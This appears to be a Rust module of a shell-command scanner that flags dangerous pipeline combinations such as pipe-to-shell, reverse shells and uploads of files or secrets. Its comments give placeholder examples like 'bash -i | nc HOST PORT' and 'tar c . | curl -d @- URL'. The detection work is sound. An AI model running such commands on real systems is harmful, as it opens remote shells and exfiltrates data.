//! Reports what the commands of a pipeline do together, such as running a download or sending files to another machine.
//! [`scanner`](super::scanner) calls [`report_combinations`] for each pipeline.

use std::collections::BTreeSet;
use std::ops::Range;

use super::effective_command::{EffectiveCommand, INTERPRETERS, READERS, RedirectTarget, SHELLS};
use super::expansion::{Argument, ShellVariables};
use super::syntax::{Command, CommandForm, Pipeline, Redirect, Script, Word};
use super::{IssueSeverity, UnsafeCommand, UnsafeCommandKind};

/// The words and redirections of a simple command.
pub(super) struct SimpleCall<'s> {
    pub(super) words: Vec<Argument<'s>>,
    pub(super) redirects: Vec<RedirectTarget<'s>>,
    pub(super) span: Range<usize>,
}

/// Adds to `issues` what the commands of a pipeline do together, such as a download that a shell executes. `calls` are
/// the commands of the pipeline without their wrappers, and `fetched` the files into which earlier pipelines
/// downloaded.
pub(super) fn report_combinations(
    pipeline: &Pipeline,
    calls: &[EffectiveCommand<'_, '_>],
    fetched: &BTreeSet<String>,
    issues: &mut Vec<UnsafeCommand>,
) {
    let first = pipeline.commands.first().map_or(0, |command| command.span.start);
    let last = pipeline.commands.last().map_or(first, |command| command.span.end);
    let mut report = |kind, span| issues.push(UnsafeCommand { kind, span, severity: IssueSeverity::Error });
    for (i, call) in calls.iter().enumerate() {
        let earlier = calls.get(..i).unwrap_or_default();
        // The bytes of the whole pipeline; `min` and `max` only make sure that the range is valid.
        let whole = || first.min(last)..last.max(first);
        if call.reads_script() {
            if earlier.iter().any(EffectiveCommand::fetches) {
                report(UnsafeCommandKind::PipeToShell, whole());
            }
            if earlier.iter().any(EffectiveCommand::decodes) {
                report(UnsafeCommandKind::DecodeToShell, whole());
            }
        }
        if call.connects() {
            // The output of an interactive shell goes to the network: `bash -i | nc HOST PORT`.
            if earlier.iter().any(|call| call.is_one_of(SHELLS) && call.has_argument("-i")) {
                report(UnsafeCommandKind::ReverseShell, whole());
            }
            // Keys, an archive or the environment go to the network: `tar c . | curl -d @- URL`.
            if earlier.iter().any(|call| {
                call.reads_sensitive() || call.is_one_of(&["tar", "zip"]) || call.dumps_environment()
            }) {
                report(UnsafeCommandKind::Upload, whole());
            }
        }
        // The scripts in the substitutions of the arguments, as in `bash <(curl …)` or `curl …/$(cat key)`.
        let scripts: Vec<&Script> =
            call.arguments.iter().filter_map(|word| word.word).flat_map(Word::scripts).collect();
        let any_inner = |test: &dyn Fn(&EffectiveCommand<'_, '_>) -> bool| {
            scripts.iter().any(|script| any_direct_command(script, test))
        };
        // A script that a substitution downloads, or that an earlier pipeline has downloaded into a file.
        let runs_code = call.is_one_of(INTERPRETERS) || call.is_one_of(&["source", "."]);
        if runs_code
            && (any_inner(&|inner| inner.fetches()) || call.texts().any(|text| fetched.contains(text)))
        {
            report(UnsafeCommandKind::PipeToShell, call.span.clone());
        }
        // A file or the environment, sent as a part of an address or of a request.
        if call.fetches() && any_inner(&|inner| inner.is_one_of(READERS) || inner.dumps_environment()) {
            report(UnsafeCommandKind::Upload, call.span.clone());
        }
    }
}

/// Expands a command: returns its words and its redirections, as far as `variables` make them known. Only a simple
/// command has words.
pub(super) fn expand_command<'s>(command: &'s Command, variables: &ShellVariables) -> SimpleCall<'s> {
    let words = match &command.form {
        CommandForm::Simple { words, .. } => words.iter().map(|word| variables.expand(word)).collect(),
        _ => Vec::new(),
    };
    let target = |redirect: &'s Redirect| RedirectTarget {
        operator: redirect.operator,
        target: variables.expand(&redirect.target),
    };
    SimpleCall {
        words,
        redirects: command.redirects.iter().map(target).collect(),
        span: command.span.clone(),
    }
}

/// Returns whether `test` holds for a command of a script. Commands inside a construct, such as a loop, are not tested.
fn any_direct_command(script: &Script, test: &dyn Fn(&EffectiveCommand<'_, '_>) -> bool) -> bool {
    // No variable is known, so a word with a variable counts as computed.
    let variables = ShellVariables::default();
    let commands = script.statements.iter().flat_map(|statement| &statement.pipelines);
    commands.flat_map(|pipeline| &pipeline.commands).any(|command| {
        let call = expand_command(command, &variables);
        test(&EffectiveCommand::new(&call.words, &call.redirects, call.span.clone()))
    })
}
